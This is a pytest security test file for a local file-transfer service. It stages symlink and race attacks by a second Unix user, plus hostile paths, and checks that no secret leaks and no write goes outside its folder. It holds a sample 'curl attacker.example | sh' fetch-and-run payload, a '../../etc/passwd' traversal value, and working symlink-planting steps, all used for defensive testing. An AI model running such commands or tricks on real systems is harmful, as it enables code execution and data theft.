"""Symlink attacks on the local Transfer from another Unix user of the machine, performed
for real: a second user (``useradd``) plants links in a shared 1777 folder mapped as a
collection, and the victim (this process, root) runs recursive transfers through globus-sdk's
TransferClient and through a flow's Transfer action. The links point at a 0600 file in a 0700
folder (which the attacker cannot read) and at a 0700 "home" (which the attacker cannot write).
A transfer must neither copy the secret out nor write through a link, also when the link is
swapped in between the service's check and its open (the race is made deterministic with an
audit hook that runs the attacker's swap right before the open). Hostile paths (NUL, ``..``,
over-long names, non-UTF-8) get one-line refusals, never an engine failure or an answer 500.

Globus's documented symlink behaviour: a recursive transfer skips symlinks by default
(``recursive_symlinks: "ignore"``, docs.globus.org/api/transfer/task_submit), and a delete
never follows them (globus-sdk ``DeleteData``).
"""

from __future__ import annotations

import contextlib
import os
import pathlib
import shutil
import subprocess
import sys
import tempfile
import types
import typing as t
import uuid
import warnings

import globus_sdk
import pytest

from tests.reliability import _service as svc

SECRET = b"TOP-SECRET-7f3a9c: the victim's private key material\n"
ORIGINAL = b"# the victim's own ~/.bashrc\nexport PATH=$HOME/bin:$PATH\n"
PAYLOAD = b"curl attacker.example | sh  # the victim's data, written where the attacker chose\n"
TRANSFER = "https://actions.globus.org/transfer/transfer"

needs_root = pytest.mark.skipif(
    os.geteuid() != 0 or shutil.which("useradd") is None or shutil.which("runuser") is None,
    reason="the attacks need root to create a second Unix user (useradd, runuser)",
)


# -- the two users and their folders -------------------------------------------------------
@pytest.fixture(scope="module")
def attacker() -> str:
    name = f"gjatk{uuid.uuid4().hex[:8]}"
    subprocess.run(["useradd", "-m", name], check=True, capture_output=True)
    try:
        yield name
    finally:
        subprocess.run(["userdel", "-r", name], capture_output=True)


def as_attacker(user: str, script: str, check: bool = True) -> subprocess.CompletedProcess:
    return subprocess.run(["runuser", "-u", user, "--", "sh", "-c", script], capture_output=True,
                          check=check, timeout=30)


@pytest.fixture(scope="module")
def service(tmp_path_factory):
    with svc.private_service(tmp_path_factory.mktemp("sec-transfer-state")) as info:
        yield info


def transfer_client(info) -> globus_sdk.TransferClient:
    return globus_sdk.TransferClient(base_url=info.service_url("transfer"), authorizer=svc.authorizer(info),
                                     transport=svc.transport(info))


@pytest.fixture
def world(service, attacker):
    """/tmp/gjsec-*/ (0755) holding: shared/ (1777, the attacker's playground, mapped as a
    collection), private/secret.txt (0700/0600), home/.bashrc (0700/0600), outbox/ and mine/
    (the victim's own 0700 collections)."""
    base = pathlib.Path(tempfile.mkdtemp(prefix="gjsec-", dir="/tmp"))
    try:
        yield _make_world(base, service, attacker)
    finally:
        shutil.rmtree(base, ignore_errors=True)


def _make_world(base: pathlib.Path, service, attacker: str) -> types.SimpleNamespace:
    from gladier_jupyter import local

    base.chmod(0o755)
    w = types.SimpleNamespace(base=base, attacker=attacker, state_dir=service.state_dir)
    for name, mode in (("shared", 0o1777), ("private", 0o700), ("home", 0o700), ("outbox", 0o700),
                       ("mine", 0o700)):
        (base / name).mkdir()
        (base / name).chmod(mode)
        setattr(w, name, base / name)
    w.secret = w.private / "secret.txt"
    w.secret.write_bytes(SECRET)
    w.secret.chmod(0o600)
    w.bashrc = w.home / ".bashrc"
    w.bashrc.write_bytes(ORIGINAL)
    w.bashrc.chmod(0o600)
    # The attack is real only if the attacker cannot do it alone.
    assert as_attacker(attacker, f"cat {w.secret}", check=False).returncode != 0
    assert as_attacker(attacker, f"echo x >> {w.bashrc}", check=False).returncode != 0
    w.ids = {}
    for name in ("shared", "outbox", "mine"):
        w.ids[name] = str(uuid.uuid4())
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            local.map_collection(w.ids[name], getattr(w, name), service.state_dir)
        said = [str(c.message) for c in caught if "writable by other users" in str(c.message)]
        assert len(said) == (name == "shared"), (name, said)
    return w


def secret_bytes_under(folder: pathlib.Path) -> int:
    """How many bytes of the secret ended up under ``folder`` (links not followed)."""
    found = 0
    for root, _dirs, files in os.walk(folder):
        for name in files:
            path = pathlib.Path(root) / name
            if not path.is_symlink() and path.is_file():
                found += path.read_bytes().count(SECRET) * len(SECRET)
    return found


def home_damage(w) -> list[str]:
    """What changed in the victim's 0700 home: overwritten or new files."""
    damage = [] if w.bashrc.read_bytes() == ORIGINAL else [".bashrc overwritten"]
    return damage + [f"new file {p.name}" for p in w.home.iterdir() if p.name != ".bashrc"]


def run_transfer(info, w, src: str, dst: str, items: list[tuple[str, str, bool]]) -> dict:
    tc = transfer_client(info)
    tdata = globus_sdk.TransferData(source_endpoint=w.ids[src], destination_endpoint=w.ids[dst])
    for source, dest, recursive in items:
        tdata.add_item(source, dest, recursive=recursive)
    return tc.get_task(tc.submit_transfer(tdata)["task_id"]).data


def run_flow_transfer(info, w, src: str, dst: str, items: list[dict]) -> dict:
    fc = svc.flows_client(info)
    flow_id = svc.deploy(fc, {"StartAt": "T", "States": {"T": {
        "Type": "Action", "ActionUrl": TRANSFER, "ExceptionOnActionFailure": False,
        "Parameters": {"source_endpoint_id": w.ids[src], "destination_endpoint_id": w.ids[dst],
                       "transfer_items": items},
        "ResultPath": "$.Transfer", "End": True}}}, title="sec-transfer")
    return svc.wait_for_run(fc, svc.start(fc, flow_id)["run_id"], timeout=60)


# -- read-through: links in the source tree ------------------------------------------------
def plant_read_links(w) -> None:
    as_attacker(w.attacker, f"""set -e
        mkdir -p {w.shared}/proj/sub && chmod -R 0777 {w.shared}/proj
        echo 'public data' > {w.shared}/proj/data.txt
        ln -s {w.secret} {w.shared}/proj/notes.txt
        ln -s {w.private} {w.shared}/proj/sub/docs
        ln -s ../../../private/secret.txt {w.shared}/proj/sub/relative.txt""")


@needs_root
def test_recursive_transfer_api_copies_no_byte_of_a_private_file_linked_into_the_shared_folder(service, world):
    plant_read_links(world)
    task = run_transfer(service, world, "shared", "outbox", [("/proj", "/copy", True)])
    leaked = secret_bytes_under(world.outbox)
    assert leaked == 0, f"{leaked} bytes of the 0600 secret copied out through planted links"
    assert (world.outbox / "copy" / "data.txt").read_text() == "public data\n"
    assert task["status"] == "SUCCEEDED" and task["files_transferred"] == 1, task


@needs_root
def test_flow_transfer_action_copies_no_byte_of_a_private_file_linked_into_the_shared_folder(service, world):
    plant_read_links(world)
    run = run_flow_transfer(service, world, "shared", "outbox",
                            [{"source_path": "/proj", "destination_path": "/copy", "recursive": True}])
    leaked = secret_bytes_under(world.outbox)
    assert leaked == 0, f"{leaked} bytes of the 0600 secret copied out through planted links"
    assert run["status"] == "SUCCEEDED", run["details"]
    details = run["details"]["output"]["Transfer"]["details"]
    assert details["files"] == 1 and details["symlinks_skipped"] == 3, details


@needs_root
@pytest.mark.parametrize("source", ["/proj/notes.txt", "/proj/sub/docs/secret.txt"])
def test_explicit_source_path_through_a_link_is_refused(service, world, source):
    plant_read_links(world)
    task = run_transfer(service, world, "shared", "outbox", [(source, "/got.txt", False)])
    assert secret_bytes_under(world.outbox) == 0
    assert task["status"] == "FAILED" and "symbolic link" in task["fatal_error"]["description"], task


# -- write-through: links in the destination tree ------------------------------------------
def plant_write_links(w) -> None:
    (w.mine / "results" / "logs").mkdir(parents=True)
    (w.mine / "results" / "run.sh").write_bytes(PAYLOAD)
    (w.mine / "results" / "logs" / ".bashrc").write_bytes(PAYLOAD)
    as_attacker(w.attacker, f"""set -e
        mkdir -p {w.shared}/proj/out && chmod -R 0777 {w.shared}/proj
        ln -s {w.bashrc} {w.shared}/proj/out/run.sh
        ln -s {w.home} {w.shared}/proj/out/logs
        ln -s {w.home} {w.shared}/proj/inbox""")


@needs_root
def test_recursive_transfer_api_never_writes_through_a_link_planted_in_the_destination(service, world):
    plant_write_links(world)
    task = run_transfer(service, world, "mine", "shared", [("/results", "/proj/out", True)])
    damage = home_damage(world)
    assert damage == [], f"writes went through planted links into the victim's 0700 home: {damage}"
    description = task["fatal_error"]["description"]
    assert task["status"] == "FAILED" and "'/proj/out/logs', a symbolic link" in description, task


@needs_root
def test_a_link_planted_at_the_destination_file_is_replaced_not_written_through(service, world):
    plant_write_links(world)
    task = run_transfer(service, world, "mine", "shared", [("/results/run.sh", "/proj/out/run.sh", False)])
    assert home_damage(world) == []
    out = world.shared / "proj" / "out" / "run.sh"
    assert task["status"] == "SUCCEEDED", task
    assert not out.is_symlink() and out.read_bytes() == PAYLOAD, "the link itself is replaced, not its target"


@needs_root
def test_flow_transfer_action_never_writes_through_a_link_planted_in_the_destination(service, world):
    plant_write_links(world)
    run = run_flow_transfer(service, world, "mine", "shared",
                            [{"source_path": "/results", "destination_path": "/proj/out", "recursive": True}])
    assert home_damage(world) == []
    assert run["details"]["output"]["Transfer"]["status"] == "FAILED", run["details"]


@needs_root
@pytest.mark.parametrize("dest", ["/proj/inbox/.bashrc", "/proj/inbox"])
def test_symlinked_destination_parent_is_never_followed(service, world, dest):
    plant_write_links(world)
    recursive = dest == "/proj/inbox"
    source = "/results" if recursive else "/results/run.sh"
    try:
        task = run_transfer(service, world, "mine", "shared", [(source, dest, recursive)])
    except globus_sdk.TransferAPIError as exc:  # refused at submission: as good
        assert exc.http_status == 400
    else:
        assert task["status"] == "FAILED", task
    assert home_damage(world) == []


@needs_root
def test_mapped_folder_swapped_for_a_link_after_mapping_is_refused(service, world):
    """The victim maps a project folder the attacker made; the attacker then replaces it
    with a link to the victim's home."""
    from gladier_jupyter import local

    as_attacker(world.attacker, f"mkdir {world.shared}/theirs && chmod 0777 {world.shared}/theirs")
    cid = str(uuid.uuid4())
    with pytest.warns(UserWarning, match="writable by other users"):
        local.map_collection(cid, world.shared / "theirs", service.state_dir)
    as_attacker(world.attacker, f"mv {world.shared}/theirs {world.shared}/old && ln -s {world.home} {world.shared}/theirs")
    (world.mine / "profile").write_bytes(PAYLOAD)
    world.ids["theirs"] = cid
    task = run_transfer(service, world, "mine", "theirs", [("/profile", "/.bashrc", False)])
    assert home_damage(world) == [], "the transfer wrote into the folder the mapped path now links to"
    assert task["status"] == "FAILED" and "now a symbolic link" in task["fatal_error"]["description"], task["fatal_error"]
    with pytest.raises(globus_sdk.TransferAPIError) as info:
        transfer_client(service).operation_ls(cid, path="/")
    assert info.value.http_status == 403


# -- races: the link is swapped in right before the service opens the path ---------------
_TRIGGER: dict[str, t.Any] = {}


def _audit(event: str, args: tuple) -> None:
    if event not in ("open", "shutil.rmtree") or not _TRIGGER or not args or not isinstance(args[0], (str, bytes)):
        return
    if os.path.basename(os.fsdecode(args[0])) == _TRIGGER.get("name"):
        action = _TRIGGER.pop("action")
        _TRIGGER.clear()
        action()


@contextlib.contextmanager
def swap_before_open(name: str, action):
    """Run ``action`` (the attacker's swap) just before this process first opens (or starts
    to delete) a path named ``name``: after every check the service made on it, before the
    operation that counts."""
    if not _TRIGGER.get("installed"):
        sys.addaudithook(_audit)
    _TRIGGER.update(name=name, action=action)
    try:
        yield
    finally:
        fired = "action" not in _TRIGGER
        _TRIGGER.clear()
        _TRIGGER["installed"] = True
        assert fired, f"the swap before opening {name!r} never ran"


def _copy(w, src: str, dst: str, items: list[dict]) -> str:
    """The copy the API and the action run, in this process; the task's status."""
    from gladier_jupyter.local.actions.transfer import copy_items

    try:
        copy_items(w.state_dir, w.ids[src], w.ids[dst], items)
    except OSError as exc:
        return f"FAILED: {exc}"
    return "SUCCEEDED"


@needs_root
def test_race_source_file_swapped_for_a_link_after_the_check_leaks_nothing(world):
    as_attacker(world.attacker, f"""set -e
        mkdir -p {world.shared}/proj && chmod 0777 {world.shared}/proj
        echo 'harmless report' > {world.shared}/proj/report.txt""")
    def swap() -> None:
        as_attacker(world.attacker, f"ln -sf {world.secret} {world.shared}/proj/report.txt")

    with swap_before_open("report.txt", swap):
        status = _copy(world, "shared", "outbox", [{"source_path": "/proj/report.txt",
                                                    "destination_path": "/report.txt"}])
    leaked = secret_bytes_under(world.outbox)
    assert leaked == 0, f"{leaked} bytes of the secret copied out by the race ({status})"
    assert status.startswith("FAILED") and "symbolic link" in status, status


@needs_root
def test_race_destination_folder_swapped_for_a_link_after_the_check_writes_nothing_outside(world):
    (world.mine / "summary.txt").write_bytes(PAYLOAD)
    (world.home / "summary.txt").write_bytes(ORIGINAL)
    as_attacker(world.attacker, f"""set -e
        mkdir -p {world.shared}/proj/out && chmod -R 0777 {world.shared}/proj""")
    def swap() -> None:
        as_attacker(world.attacker, f"""set -e
            mv {world.shared}/proj/out {world.shared}/proj/out.old && ln -s {world.home} {world.shared}/proj/out""")

    with swap_before_open("summary.txt", swap):
        status = _copy(world, "mine", "shared", [{"source_path": "/summary.txt",
                                                  "destination_path": "/proj/out/summary.txt"}])
    assert (world.home / "summary.txt").read_bytes() == ORIGINAL, f"the victim's file was overwritten ({status})"
    assert status.startswith("FAILED") and "symbolic link" in status, status


@needs_root
def test_flow_delete_of_a_planted_link_removes_the_link_not_the_victims_file(service, world):
    """In the sticky shared folder the attacker cannot remove the victim's file; a link the
    victim cleans up must not do it for them ("Symlinks will never be followed, only deleted")."""
    mine = world.shared / "victim-notes.txt"
    mine.write_bytes(ORIGINAL)
    as_attacker(world.attacker, f"""set -e
        mkdir -p {world.shared}/proj && chmod 0777 {world.shared}/proj
        ln -s ../victim-notes.txt {world.shared}/proj/old.log""")
    assert as_attacker(world.attacker, f"rm -f {mine}", check=False).returncode != 0 and mine.exists()
    fc = svc.flows_client(service)
    flow_id = svc.deploy(fc, {"StartAt": "D", "States": {"D": {
        "Type": "Action", "ActionUrl": "https://actions.globus.org/transfer/delete",
        "Parameters": {"endpoint_id": world.ids["shared"], "items": ["/proj/old.log"]},
        "ResultPath": "$.D", "End": True}}}, title="sec-delete")
    run = svc.wait_for_run(fc, svc.start(fc, flow_id)["run_id"], timeout=60)
    assert mine.exists(), "deleting the planted link deleted the victim's file it points at"
    assert run["status"] == "SUCCEEDED" and not (world.shared / "proj" / "old.log").is_symlink(), run["details"]


@needs_root
def test_race_delete_whose_parent_is_swapped_for_a_link_deletes_nothing_outside(world):
    from gladier_jupyter.local._http import ServiceContext
    from gladier_jupyter.local.actions import ActionRequest
    from gladier_jupyter.local.actions.transfer import TransferDeleteProvider

    (world.home / "sub").mkdir()
    (world.home / "sub" / "thesis.tex").write_bytes(ORIGINAL)
    as_attacker(world.attacker, f"""set -e
        mkdir -p {world.shared}/proj/sub && chmod -R 0777 {world.shared}/proj
        echo scratch > {world.shared}/proj/sub/tmp.txt""")

    def swap() -> None:
        as_attacker(world.attacker, f"""set -e
            mv {world.shared}/proj {world.shared}/proj.old && ln -s {world.home} {world.shared}/proj""")

    request = ActionRequest(ServiceContext(world.state_dir, secret="unused"), "run", "Delete")
    body = {"endpoint_id": world.ids["shared"], "items": ["/proj/sub"], "recursive": True}
    with swap_before_open("sub", swap):
        status, details = TransferDeleteProvider().start(body, request).poll()
    assert (world.home / "sub" / "thesis.tex").read_bytes() == ORIGINAL, f"the victim's folder was deleted ({details})"


# -- a collection folder others can write is worth a warning -------------------------------
@needs_root
def test_transfer_from_a_world_writable_collection_warns_once(service, world):
    (world.mine / "a.txt").write_text("a")
    task = run_transfer(service, world, "mine", "shared", [("/a.txt", "/a.txt", False)])
    assert task["status"] == "SUCCEEDED", task
    assert [w for w in task.get("warnings", []) if "writable by other users" in w] != [], task
    assert str(world.shared) in "\n".join(task["warnings"])
    quiet = run_transfer(service, world, "mine", "outbox", [("/a.txt", "/a.txt", False)])
    assert quiet.get("warnings", []) == [], quiet
    log = (service.state_dir / "service.log").read_text(errors="replace")
    assert "writable by other users" in log


# -- hostile paths: one-line refusals, never an engine failure --------------------------------
HOSTILE = {
    "nul": ("/data\x00.txt", "NUL"),
    "dotdot": ("/../../etc/passwd", "leaves its collection"),
    "long-name": ("/" + "n" * 300, "255 bytes"),
    "long-path": ("/" + "/".join(["d" * 200] * 25), "4096 bytes"),
    "non-utf8": ("/bad\udcffname", "UTF-8"),
    "lone-surrogate": ("/bad\ud800name", "UTF-8"),
}


@pytest.fixture
def plain_ids(service):
    return str(uuid.uuid4()), str(uuid.uuid4())


@pytest.mark.parametrize("case", list(HOSTILE))
@pytest.mark.parametrize("side", ["source", "destination"])
def test_hostile_transfer_path_gets_a_one_line_400(service, plain_ids, case, side):
    path, rule = HOSTILE[case]
    tc = transfer_client(service)
    tdata = globus_sdk.TransferData(source_endpoint=plain_ids[0], destination_endpoint=plain_ids[1])
    tdata.add_item(path if side == "source" else "/x", path if side == "destination" else "/x")
    with pytest.raises(globus_sdk.TransferAPIError) as info:
        tc.submit_transfer(tdata)
    assert info.value.http_status == 400, info.value.text
    message = info.value.message
    assert rule in message and f"{side}_path" in message and "\n" not in message, message
    assert len(message) < 400, message


@pytest.mark.parametrize("case", ["nul", "long-name", "non-utf8", "lone-surrogate"])
def test_hostile_mkdir_path_gets_a_400(service, plain_ids, case):
    path, rule = HOSTILE[case]
    with pytest.raises(globus_sdk.TransferAPIError) as info:
        transfer_client(service).operation_mkdir(plain_ids[0], path)
    assert info.value.http_status == 400 and rule in info.value.message, info.value.text


# A query string cannot carry a lone surrogate, and tornado turns a NUL in one into a space.
@pytest.mark.parametrize("case", ["long-name", "long-path"])
def test_hostile_ls_path_gets_a_400(service, plain_ids, case):
    path, rule = HOSTILE[case]
    with pytest.raises(globus_sdk.TransferAPIError) as info:
        transfer_client(service).operation_ls(plain_ids[0], path=path)
    assert info.value.http_status == 400 and rule in info.value.message, info.value.text


@pytest.mark.parametrize("case", list(HOSTILE))
def test_hostile_path_in_a_flow_transfer_fails_the_state_in_one_line(service, plain_ids, case):
    path, rule = HOSTILE[case]
    fc = svc.flows_client(service)
    flow_id = svc.deploy(fc, {"StartAt": "T", "States": {"T": {
        "Type": "Action", "ActionUrl": TRANSFER,
        "Parameters": {"source_endpoint_id": plain_ids[0], "destination_endpoint_id": plain_ids[1],
                       "transfer_items": [{"source_path": path, "destination_path": "/x"}]},
        "ResultPath": "$.T", "End": True}}}, title="hostile-path")
    run = svc.wait_for_run(fc, svc.start(fc, flow_id)["run_id"], timeout=60)
    assert run["status"] == "FAILED"
    cause = run["details"]["details"]["cause"]
    assert run["details"]["details"]["error"] == "ActionUnableToRun", run["details"]
    assert rule in cause and "engine failed" not in cause and "\n" not in cause, cause
